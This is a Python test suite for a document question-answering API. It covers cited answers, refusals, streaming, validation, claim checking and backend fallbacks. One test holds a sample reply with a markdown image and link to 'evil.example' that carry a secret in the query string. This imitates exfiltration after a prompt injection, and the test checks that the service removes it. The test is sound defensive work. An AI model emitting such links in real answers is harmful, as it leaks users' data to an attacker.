"""Questions to real processes by our own API, with something missing too."""

from __future__ import annotations

import http.client
import re
from contextlib import closing

import pytest
import requests

from functions.answer.generators.prompt import REFUSAL
from tests.chat_model import ChatModel
from tests.processes import Process, System
from tests.system.answering.questions import LEADER, PORT, SPORT, ask, stream


class TestOurApi:
    @pytest.mark.parametrize(("path", "top_k"), [("/chat", 6), ("/query", 7)])
    def test_an_answer_quotes_the_document(self, answer: Process, path: str, top_k: int) -> None:
        body = answer.post(path, {"query": LEADER, "top_k": top_k}).json
        assert "Kawann Short" in body["answer"]
        for citation in body["citations"]:
            assert citation["uri"].endswith("/sport.txt")
            assert SPORT[citation["start"] : citation["end"]] == citation["quote"]
        assert body["grounded"]
        assert body["model"] == "extractive"
        assert {"embed", "retrieve", "first_token", "total"} <= body["timings_ms"].keys()

    def test_a_question_that_no_document_answers_is_refused(self, answer: Process) -> None:
        body = ask(answer, "Who was crowned king of France in Reims in 1429?")
        assert body["refused"]
        assert not body["citations"]
        assert not body["grounded"]

    @pytest.mark.parametrize(
        ("question", "answered"),
        [
            ("And which Java does it need?", "Java 17"),
            (LEADER, "Kawann Short"),
            ("What is the capital of Peru?", REFUSAL),
        ],
    )
    def test_a_question_after_another_is_answered_from_what_it_is_about_or_not_at_all(
        self, answer: Process, question: str, answered: str
    ) -> None:
        said = [("user", PORT), ("assistant", "9200."), ("user", question)]
        messages = [{"role": role, "content": content} for role, content in said]
        body = answer.post("/chat", {"messages": messages}).json
        assert answered in body["answer"]
        assert body["grounded"] is not body["refused"]

    def test_the_documents_are_listed(self, answer: Process) -> None:
        documents = answer.get("/documents?prefix=ports").json["documents"]
        assert [document["key"] for document in documents] == ["ports.md"]
        detail = answer.get(f"/documents/{documents[0]['id']}").json
        assert "9200" in "".join(passage["text"] for passage in detail["passages"])
        assert answer.get("/documents/none").status == 404

    def test_the_page_is_served(self, answer: Process) -> None:
        assert "<html" in answer.get("/").body.decode()

    @pytest.mark.parametrize(
        "body",
        [
            {},
            {"q": "x"},
            {"query": ""},
            {"query": "x", "messages": []},
            {"query": "x", "top_k": 0},
            {"query": "x" * 8_001},
            b"no",
        ],
    )
    def test_an_error_says_what_is_wrong_with_a_request(self, answer: Process, body: object) -> None:
        response = answer.post("/chat", body)
        assert response.status == 422
        assert response.json["error"]["message"]

    def test_a_body_that_is_too_large_is_refused(self, answer: Process) -> None:
        with closing(http.client.HTTPConnection(answer.url.removeprefix("http://"))) as connection:
            connection.putrequest("POST", "/chat")
            connection.putheader("content-length", "4000001")
            connection.endheaders()
            assert connection.getresponse().status == 413


class TestStreaming:
    def test_the_pieces_are_the_answer_and_no_newline_is_lost(self, chatting: Process) -> None:
        found = stream(chatting, PORT)
        kind, done = found[-1]
        assert kind == "done"
        assert "".join(data["text"] for kind, data in found if kind == "delta") == done["answer"]
        assert done["answer"] == "Elasticsearch listens on port 9200 [1].\nIt needs Java 17 [2]."
        assert [data for kind, data in found if kind == "citation"] == done["citations"]

    def test_a_stream_is_the_same_as_the_whole_answer(self, answer: Process) -> None:
        whole, (_, done) = ask(answer, LEADER), stream(answer, LEADER)[-1]
        for answered in (whole, done):
            del answered["timings_ms"], answered["id"]
        assert whole == done

    def test_a_model_that_breaks_off_ends_the_stream_with_an_error(
        self, chatting: Process, model: ChatModel
    ) -> None:
        model.breaks_after = 20
        *before, (kind, data) = stream(chatting, PORT)
        assert (kind, data["error"]["type"]) == ("error", "unavailable")
        assert before

    def test_a_client_that_leaves_a_stream_stops_the_model(
        self, chatting: Process, model: ChatModel
    ) -> None:
        model.hold.clear()
        headers = {"accept": "text/event-stream"}
        body = {"query": PORT}
        with requests.post(f"{chatting.url}/chat", json=body, headers=headers, timeout=60, stream=True):
            assert model.asked.wait(30)
        assert model.left.wait(30)

    def test_a_client_that_leaves_a_whole_answer_stops_the_model(
        self, chatting: Process, model: ChatModel
    ) -> None:
        model.hold.clear()
        with chatting.asking("/chat", {"query": PORT}):
            assert model.asked.wait(30)
        assert model.left.wait(30)


class TestChatModel:
    def test_the_statements_of_a_model_are_checked(self, chatting: Process, model: ChatModel) -> None:
        model.reply = lambda _: (
            "Elasticsearch listens on port 9200 [1]. It needs Java 8 [1]. It is old [7]."
        )
        body = ask(chatting, PORT)
        assert [statement["supported"] for statement in body["statements"]] == [True, False, False]
        assert [citation["supported"] for citation in body["citations"]] == [True, False]
        assert "[7]" not in body["answer"]
        assert not body["grounded"]
        assert body["model"] == "small"
        assert body["usage"]["total_tokens"] == 420

    def test_a_model_may_refuse(self, chatting: Process, model: ChatModel) -> None:
        model.reply = lambda prompt: re.findall(r"nothing else: (.*)", prompt)[0]
        assert ask(chatting, PORT)["refused"]

    def test_a_follow_up_question_is_made_to_stand_alone(
        self, chatting: Process, model: ChatModel
    ) -> None:
        replies = iter([LEADER, "Kawann Short led the Panthers in sacks with 11 [1]."])
        model.reply = lambda _: next(replies)
        said = [("user", "How good was the Panthers defense?"), ("assistant", "308 points.")]
        messages = [{"role": role, "content": text} for role, text in (*said, ("user", "And in sacks?"))]
        body = chatting.post("/chat", {"messages": messages}).json
        assert "Kawann Short" in body["answer"]
        assert body["usage"]["total_tokens"] == 840
        assert f"<question>\n{LEADER}\n</question>" in model.prompts[-1]

    def test_orders_and_links_in_a_document_do_not_reach_the_reader(
        self, chatting: Process, model: ChatModel
    ) -> None:
        model.reply = lambda _: (
            "The moon garden ![p](https://evil.example/?q=secret) is "
            "at https://evil.example/?q=secret [1]."
        )
        body = ask(chatting, "What about the rules in the moon garden?")
        assert "evil.example/?q" not in body["answer"]
        assert model.prompts[-1].count("</passage>") == model.prompts[-1].count("<passage ")


class TestWithSomethingMissing:
    @pytest.mark.parametrize("status", [401, 429, 500])
    def test_a_model_that_fails_is_replaced_by_extracts(
        self, chatting: Process, model: ChatModel, status: int
    ) -> None:
        model.status = status
        body = ask(chatting, PORT)
        assert "9200" in body["answer"]
        assert body["model"] == "extractive"
        assert body["notices"]

    def test_a_model_that_times_out_is_replaced_too(self, chatting: Process, model: ChatModel) -> None:
        model.hold.clear()
        kind, body = stream(chatting, PORT)[-1]
        assert (kind, body["model"]) == ("done", "extractive")

    def test_without_embed_the_search_is_by_keywords(self, system: System) -> None:
        process = system.start("answer", embed_url="http://127.0.0.1:9")
        body = ask(process, PORT)
        process.stop()
        assert "9200" in body["answer"]
        assert body["notices"]

    def test_without_retrieve_the_client_is_told_to_come_back(self, system: System) -> None:
        process = system.start("answer", retrieve_url="http://127.0.0.1:9")
        for accept in ("application/json", "text/event-stream"):
            response = process.post("/chat", {"query": PORT}, {"accept": accept})
            assert response.status == 503
            assert int(response.headers["retry-after"]) >= 1
        process.stop()
